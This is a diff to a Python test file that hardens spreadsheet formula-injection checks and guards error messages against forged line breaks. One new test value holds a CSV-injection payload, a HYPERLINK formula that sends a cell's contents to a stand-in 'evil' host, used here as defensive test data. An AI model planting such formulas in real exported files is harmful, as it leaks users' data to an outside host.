@@ -28,8 +28,9 @@ from mechanisms.protocols import Message
 from mechproof.demos import Transcript
 from mechproof.problems.reading import DocumentError
 from mechproof.sweep import CellResult, Grid, SweepResult, load_sweep
+from theory._gambit_text import GambitTextError
 from theory._printable import json_text, printable
-from theory.errors import InvalidInputError
+from theory.errors import InvalidInputError, MechproofError
 from theory.verdicts import DiagramNode, LatticeDiagram, LatticeNode, Table, TreeDiagram
 
 ORDERS = re.compile(
@@ -276,7 +277,7 @@ def cells_of(texts: tuple[str, ...]) -> tuple[list[list[str]], SweepResult]:
 
 
 def read_back(cell: str) -> str:
-    blank = r"[\s'\u2800\u16fe4\U00013441\U0001d159]*"
+    blank = r"[\s'\"\u2800\u16fe4\U00013441\U0001d159]*"
     sign = blank + r"[=+@\u2212\uff1d\uff0b\uff20\uff0d\ufe66\ufe62\ufe63\ufe6b-]"
     return re.sub(rf"(^|[;\t\n])'(?={sign})", r"\1", cell)
 
@@ -291,6 +292,9 @@ def parts_of(found: SweepResult) -> list[str]:
     return cells + re.split("[;\t\n]", text)
 
 
+GRID = Grid({"x": [0]})
+
+
 def is_formula(cell: str) -> bool:
     plain = unicodedata.normalize("NFKD", cell)
     skipped, blank = ("C", "Z"), "\u3164\u115f\u2800\u16fe4\U00013441\U0001d159"
@@ -302,6 +306,15 @@ def is_formula(cell: str) -> bool:
 def test_no_cell_is_a_formula() -> None:
     for cell in parts_of(cells_of(FORMULAS)[1]):
         assert not is_formula(cell), cell
+
+
+def test_no_mark_before_a_sign_hides_a_formula() -> None:
+    quoted = ['a;"=HYPERLINK(http://evil/?&A1)&1;b', '"=1', 'a;"=1;b', 'a\t"=1', 'a\n"=1', 'a;""=1']
+    marks = [chr(n) for n in range(0x3001) if chr(n).isprintable()]
+    texts = [f"a{cut}{mark}=1{cut}b" for cut in ";,\t\n" for mark in marks]
+    for text in [*quoted, *texts]:
+        for cell in parts_of(SweepResult(GRID, (CellResult(GRID[0], {"v": text}, ""),))):
+            assert not is_formula(cell), text
 
 
 def test_every_text_is_read_back_as_it_is_printed() -> None:
@@ -508,6 +521,26 @@ def test_no_name_and_no_memo_makes_a_line_of_its_own() -> None:
     for each in (*_holders(_FORGED), *_tellers()):
         lines = str(each).split("\n")
         assert not {_LINE, f"  {_LINE}"} & set(lines), type(each)
+
+
+def test_no_error_makes_a_line_of_its_own() -> None:
+    class Told:
+        def __repr__(self) -> str:
+            return _FORGED
+
+    errors = [
+        MechproofError(_FORGED),
+        InvalidInputError(_FORGED, _FORGED, _FORGED, _FORGED),
+        InvalidInputError("x", Told(), "is wrong", "give another"),
+        CallError(_FORGED, _FORGED),
+        SellerError(_FORGED, _FORGED, _FORGED),
+        GambitTextError(1, 1, _FORGED, _FORGED, _FORGED),
+        DocumentError(_FORGED, path=_FORGED),
+        DocumentError(_FORGED, line=1, column=1),
+    ]
+    assert [each for each in errors if "\n" in str(each)] == []
+    array = InvalidInputError("x", np.zeros((2, 1)), "is wrong", "give another")
+    assert str(array) == "x is wrong (got array([[0.], [0.]])): give another"
 
 
 @pytest.mark.parametrize("raised", [SystemExit, GeneratorExit, BaseException, RecursionError])
